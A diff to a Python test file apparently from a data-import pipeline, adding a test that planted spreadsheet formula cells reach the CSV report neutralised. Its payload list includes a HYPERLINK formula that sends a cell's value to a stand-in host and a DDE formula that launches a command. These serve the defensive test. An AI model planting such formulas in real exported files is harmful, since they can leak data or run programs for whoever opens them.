@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 from pathlib import Path
@@ -13,10 +14,12 @@ from typer.testing import CliRunner
 from connectors.errors import SetupError
 from connectors.objects import ObjectStore
 from connectors.s3 import Location, S3Store, make_s3_client
+from flows.attach_flow import run_attach
 from flows.commands.cli import app
 from flows.runtime import check_api_url
-from tests.e2e.helpers import sandbox_record
-from tests.hostile.conftest import CorpusRun
+from tests.hostile.helpers import CorpusRun
+from tests.support.legacy_archives import stage_archive
+from tests.support.scenario import api_env, load_world, sandbox_record
 
 
 class _Recorder:
@@ -152,3 +155,39 @@ def test_formula_cells_land_escaped_in_rows_csv(corpus_run: CorpusRun) -> None:
     for row in rows:  # no cell anywhere starts a formula
         for value in row.values():
             assert not value or value[0] not in "=+-@\t\r", row
+
+
+FORMULA_CELLS = ["=HYPERLINK(\"http://x.example/?\"&A1;\"open\")", "+1+cmd|' /C calc'!A0", "@SUM(1;2)",
+           "-2+3", "A10\n=1+1", "\tA11"]
+
+
+@pytest.mark.slow
+@pytest.mark.usefixtures("prefect_harness")
+def test_carried_values_that_are_formulas_are_inert_in_rows_csv(
+    fin_sandbox: Any, bucket: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
+) -> None:
+    """carrier_c carries Satz-ID into the report. Archive cells holding formulas (and a newline) must reach
+    rows.csv inert (quoted with a leading apostrophe, one CSV record per row) and rows.parquet as they were."""
+    archive, mapping, world, _ = stage_archive("carrier_c", bucket)
+    load_world(fin_sandbox.url, world)
+    api_env(monkeypatch, fin_sandbox.url, tmp_path)
+    store = ObjectStore(S3Store(make_s3_client()))
+    loc = Location.parse(archive)
+    lines = store.read(loc).decode("cp1252").splitlines()
+    for i, value in enumerate(FORMULA_CELLS, start=1):
+        quoted = '"' + value.replace('"', '""') + '"'
+        lines[i] = quoted + lines[i][lines[i].index(";"):]
+    store.write(loc, ("\r\n".join(lines) + "\r\n").encode("cp1252"), overwrite=True)
+
+    summary = asyncio.run(run_attach(archive, f"s3://{bucket}/reports", mapping=mapping, dry_run=True))
+
+    report = Location.parse(summary["report"])
+    text = store.read(report.child("rows.csv")).decode("utf-8")
+    records = list(csv.DictReader(io.StringIO(text)))
+    assert len(records) == summary["rows_in"]
+    cells = [r["Satz-ID"] for r in records]
+    for value in FORMULA_CELLS:
+        shown = [c for c in cells if c.lstrip("'") == value]
+        assert shown, (value, cells)
+        # what a spreadsheet sees as the cell's start must not open a formula
+        assert not shown[0].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), shown[0]
